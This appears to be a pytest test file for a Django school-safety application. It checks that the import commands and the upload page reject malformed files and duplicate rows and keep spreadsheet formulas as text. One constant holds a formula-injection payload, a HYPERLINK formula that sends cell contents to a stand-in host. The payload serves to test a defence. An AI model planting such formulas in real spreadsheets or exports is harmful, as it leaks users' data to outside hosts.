"""Lists that cannot be used, through the command of each room and through the page where there is one."""

import io
import json

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from incidents.models import Incident
from safeschool.accounts.models import Unit
from safeschool.audit.models import Entry
from schools.models import ImportBatch, School
from tests.e2e.hands import LANGUAGES, said

COMMANDS = {"import_schools": "--unit", "import_incidents": "--unit", "import_units": "--under"}
NOT_A_TABLE = (
    "This file is not a table that can be read. Save it as Excel (.xlsx), OpenDocument (.ods), CSV in UTF-8, "
    "GeoJSON or JSON, and bring it again."
)
WITHOUT_NAMES = "names of the schools"
LINK = '=HYPERLINK("http://example.org/?x="&A1,"Hill")'


def sheet(*rows: tuple) -> bytes:
    """An .xlsx file; what begins with = is a formula in it, as a stranger's program may write it."""
    held = io.BytesIO()
    book = xlsxwriter.Workbook(held, {"in_memory": True})
    page = book.add_worksheet()
    for number, row in enumerate(rows):
        page.write_row(number, 0, row)
    book.close()
    return held.getvalue()


UNUSABLE = {
    "no encoding at all": b"code,name\n1,\x81\x8d\x8f\x90\xff\n",
    "half a spreadsheet": sheet(("code", "name"), ("1", "A"))[:-400],
    "a program": b"MZ\x90\x00" + b"\0" * 500,
    "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
    "nothing": b"",
    "half a document": b'[{"code": "1", "name": ',
}


def rows() -> tuple[int, ...]:
    return School.objects.count(), Incident.objects.count(), Unit.objects.count(), Entry.objects.count()


@pytest.fixture
def run(tmp_path, capsys):
    """`run(command, content)`: its exit code, what it printed as JSON, what it said."""

    def command(name: str, content: bytes, ending: str = "csv") -> tuple[int, dict, str]:
        file = tmp_path / f"list.{ending}"
        file.write_bytes(content)
        code = 0
        try:
            call_command(name, str(file), COMMANDS[name], "NORTH", "--json")
        except SystemExit as ended:
            code = ended.code
        told = capsys.readouterr()
        return code, json.loads(told.out), told.err

    return command


@pytest.mark.parametrize("kind", UNUSABLE)
@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_refuses_what_is_no_list_with_a_sentence_and_exit_code_2(run, north, command, kind):
    before = rows()
    code, told, sentence = run(command, UNUSABLE[kind], "json" if kind == "half a document" else "csv")
    assert (code, told["read"], told["created"]) == (2, 0, 0)
    assert told["refused"] == [{"row": 0, "reason": sentence.strip()}]
    assert sentence.strip().endswith(".")
    assert rows() == before


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_refuses_a_list_whose_columns_say_nothing(run, north, command):
    before = rows()
    code, told, sentence = run(command, b"colour,size\nred,1\n")
    assert (code, told["created"]) == (2, 0), told
    # The clerk is told what was there, or which column is missing.
    assert "colour" in sentence or "Name one “date”" in sentence
    assert rows() == before


@pytest.mark.parametrize(
    ("command", "content"),
    [
        ("import_schools", b"code,name\n1,Good\n1,Again\n2,Good too\n"),
        ("import_units", b"code,name\n1,Good\n1,Again\n2,Good too\n"),
        ("import_incidents", b"date,type,note\n2020-05-04,,x\n2020-05-04,,x\n2020-05-05,,y\n"),
    ],
)
def test_a_command_refuses_the_row_that_is_there_twice_and_takes_the_others(run, north, command, content):
    code, told, _said = run(command, content)
    assert (code, told["read"], told["created"], [one["row"] for one in told["refused"]]) == (0, 3, 2, [3]), told
    assert "row 2" in told["refused"][0]["reason"]


@pytest.mark.parametrize(
    ("command", "header", "row", "kept"),
    [
        ("import_schools", "code,name", ("1", LINK), lambda: School.objects.get(code="1").name),
        ("import_units", "code,name", ("1", LINK), lambda: Unit.objects.get(code="1").name),
        ("import_incidents", "date,note", ("2020-05-04", LINK), lambda: Incident.objects.get().note),
    ],
)
def test_a_formula_in_a_cell_stays_the_text_it_is(run, north, command, header, row, kept):
    line = f'{row[0]},"{row[1].replace(chr(34), chr(34) * 2)}"'
    code, told, _said = run(command, f"{header}\n{line}\n".encode())
    assert (code, told["created"]) == (0, 1), told
    assert kept() == LINK


# The page


def brought(browser, unit, content: bytes, name: str = "list.csv"):
    file = SimpleUploadedFile(name, content)
    return browser.post(reverse("schools:import"), {"unit": unit.pk, "file": file, "columns": ""})


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", ["no encoding at all", "half a spreadsheet", "a program", "a picture"])
def test_the_page_refuses_what_is_no_list_in_the_clerks_language(signed_in, chief, north, kind, language):
    chief.language = language
    chief.save()
    answer = brought(signed_in(chief), north, UNUSABLE[kind])
    assert answer.status_code == 422
    assert said(language, NOT_A_TABLE) in answer.content.decode()
    assert not ImportBatch.objects.exists()


def test_the_page_names_the_columns_it_found_when_none_is_the_name(signed_in, chief, north):
    page = brought(signed_in(chief), north, b"colour,size\nred,1\n")
    assert page.status_code == 422
    assert "colour" in page.content.decode()


def test_the_page_shows_a_code_that_is_there_twice_with_its_row(signed_in, chief, north):
    browser = signed_in(chief)
    answer = brought(browser, north, b"code,name\n1,Good\n1,Again\n")
    page = browser.get(answer.url).content.decode()
    assert "stands in row 2 already" in page
    assert ImportBatch.objects.get().created == 1


def test_the_page_shows_a_formula_as_text_and_writes_it_so(signed_in, chief, north):
    browser = signed_in(chief)
    shown = sheet(("code", "name"), ("1", "'" + LINK))
    answer = brought(browser, north, shown, "list.xlsx")
    assert "<a href=&quot;http://example.org" not in browser.get(answer.url).content.decode()
    answer = brought(browser, north, f'code,name\n1,"{LINK.replace(chr(34), chr(34) * 2)}"\n'.encode())
    page = browser.get(answer.url).content.decode()
    assert "=HYPERLINK(&quot;http://example.org/?x=&quot;&amp;A1" in page
    browser.post(reverse("schools:import_confirm", args=[ImportBatch.objects.first().pk]))
    assert School.objects.get().name == LINK
